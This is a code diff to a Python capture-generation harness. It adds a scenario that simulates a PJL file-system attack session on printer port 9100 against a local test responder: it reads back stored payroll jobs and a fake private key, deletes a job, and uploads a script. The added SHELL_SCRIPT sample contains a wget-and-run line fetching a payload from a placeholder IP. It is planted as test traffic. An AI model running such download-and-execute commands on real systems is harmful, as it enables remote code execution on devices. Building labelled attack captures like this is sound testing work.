@@ -17,15 +17,18 @@ What could not be made with free software is said in the scenario notes (and in 
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
 import time
 from pathlib import Path
 
-from tools.make_captures import USER, Expect, Scenario, tshark, wait_files
+from tools.make_captures import USER, Doc, Expect, Payload, Scenario, tshark, wait_files
 from tools.netlab import Lab, LabError
 
 TOOLS = Path(__file__).resolve().parent
@@ -504,5 +507,96 @@ class RpcTcpPrivacy(RpcTcp):
     flows = (("privacy", True),)
 
 
+# ----------------------------------------------------------------------- PJL file system on 9100
+def small_doc(sc: Scenario, tag: str, kind: str, title: str, body: bytes, how: str) -> Doc:
+    """A non-print payload (script, key) as a Doc, with the scenario's canary planted in it."""
+    s = sc.docs.strings(tag, title)
+    path = sc.docs.dir / f"{tag}.{kind}.bin"
+    path.write_bytes(body.replace(b"{canary}", s["canary"].encode()))
+    return Doc(tag, kind, path, [], {"canary": s["canary"], "job_title": title}, USER, title, how)
+
+
+def fake_pem(seed: str) -> bytes:
+    """PEM armour around deterministic bytes: looks like a key, is none (same bytes each build)."""
+    body = base64.b64encode(hashlib.shake_256(seed.encode()).digest(1190)).decode()
+    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
+    return ("-----BEGIN PRIVATE KEY-----\n" + "\n".join(lines)
+            + "\n-----END PRIVATE KEY-----\n# {canary}\n").encode()
+
+
+SHELL_SCRIPT = b"""#!/bin/sh
+# firmware helper dropped through PJL FSDOWNLOAD ({canary})
+wget -q -O /tmp/u http://203.0.113.7/u && sh /tmp/u
+echo 'pwned' > /dev/console
+"""
+
+
+class PjlFsSession(Scenario):
+    """A PJL file-system session on 9100 against tools/pjlfs_responder.py (a test responder)."""
+
+    name = "pjlfs-session"
+    packages = ("ghostscript",)
+
+    def run(self, lab: Lab, pcap: Path) -> None:
+        vol = self.work / "volume"
+        jobs = vol / "saveDevice" / "SavedJobs" / "KeepJob"
+        for d in (jobs, vol / "pjl" / "certs", vol / "webServer" / "home"):
+            d.mkdir(parents=True, exist_ok=True)
+        pcl = self.docs.make("pcl", "pjl-pcl5-raster", "Payroll_Q3.pcl")
+        ps = self.docs.make("ps", "pjl-ps", "salary_review.ps")
+        key = small_doc(self, "key", "pem", "jetdirect.key", fake_pem(self.name),
+                        "fake PEM private key (deterministic bytes in PEM armour, not a key)")
+        script = small_doc(self, "script", "shell-script", "update.sh", SHELL_SCRIPT,
+                           "hand-written shell script")
+        stored = {"0:\\saveDevice\\SavedJobs\\KeepJob\\Payroll_Q3.pcl": (pcl, jobs),
+                  "0:\\saveDevice\\SavedJobs\\KeepJob\\salary_review.ps": (ps, jobs),
+                  "0:\\pjl\\certs\\jetdirect.key": (key, vol / "pjl" / "certs")}
+        for name, (doc, where) in stored.items():
+            shutil.copy(doc.path, where / name.rsplit("\\", 1)[1])
+        put_remote = "0:\\pjl\\scripts\\update.sh"
+        self.spawn(lab, "prn", [sys.executable, str(TOOLS / "pjlfs_responder.py"), "--port",
+                                "9100", "--volume", str(vol)])
+        lab.wait_port("prn", 9100)
+        got = self.work / "read-back"
+        argv = [sys.executable, str(TOOLS / "pjlfs_client.py"), "--host", lab.ip("prn"),
+                "--out", str(got), "--put", str(script.path), put_remote,
+                "--delete", next(iter(stored))]
+        for name in stored:
+            argv += ["--get", name]
+        with lab.capture(pcap, self.fmt):
+            res = self.cmd(lab, "ws", argv)
+        info = json.loads(res.stdout.strip().splitlines()[-1])
+        if (info["reply_terminators"]["UEL"] != 1 or (vol / "saveDevice" / "SavedJobs" / "KeepJob"
+                                                     / "Payroll_Q3.pcl").exists()):
+            raise LabError(f"PJL session did not go as planned: {info}")
+        payloads = [Payload(doc, "server_to_client", "document-read-back" if doc is not key
+                            else "file-read-back", Path(info["read_back"][name]),
+                            note=f"FSUPLOAD of {name}")
+                    for name, (doc, _) in stored.items()]
+        payloads.append(Payload(script, "client_to_server", "file-written-to-printer",
+                                vol / "pjl" / "scripts" / "update.sh",
+                                note=f"FSDOWNLOAD FORMAT:BINARY of {put_remote}"))
+        verbs = list(dict.fromkeys(" ".join(c.split()[:2]) if c.startswith("INFO") else
+                                   c.split()[0] for c in info["commands"]))
+        paths = list(dict.fromkeys(m for c in info["commands"]
+                                   for m in re.findall(r'NAME="([^"]*)"', c)))
+        self.expects.append(Expect(
+            9100, "raw9100", False, None, None, None, payloads=payloads,
+            facts={"pjl_fs": {
+                "commands": verbs, "paths": paths,
+                "files_read_back": list(stored), "files_written": [put_remote],
+                "deleted": [next(iter(stored))], "directories_made": ["0:\\pjl\\scripts"],
+                "reply_terminators": info["reply_terminators"],
+                "reply_ended_by_uel": "INFO ID",
+                "responder": "tools/pjlfs_responder.py (test responder, not a printer)"}},
+            note="tools/pjlfs_client.py: " + "; ".join(info["commands"])))
+        self.notes.append("No free printer implements the PJL file system: the printer side is "
+                          "tools/pjlfs_responder.py, a test responder written for these captures "
+                          "after the HP PJL Technical Reference; the client side is "
+                          "tools/pjlfs_client.py.  The stored print jobs are Ghostscript ljet4 "
+                          "PCL and hand-written PostScript, each in a PJL wrapper.")
+
+
 SCENARIOS: list[type[Scenario]] = [Smb1Print, RpcclientSpoolss, SpoolssSmb3Pipe,
-                                   SpoolssSmb3PipeEnc, SpoolssPrintjobNp, RpcTcp, RpcTcpPrivacy]
+                                   SpoolssSmb3PipeEnc, SpoolssPrintjobNp, RpcTcp, RpcTcpPrivacy,
+                                   PjlFsSession]
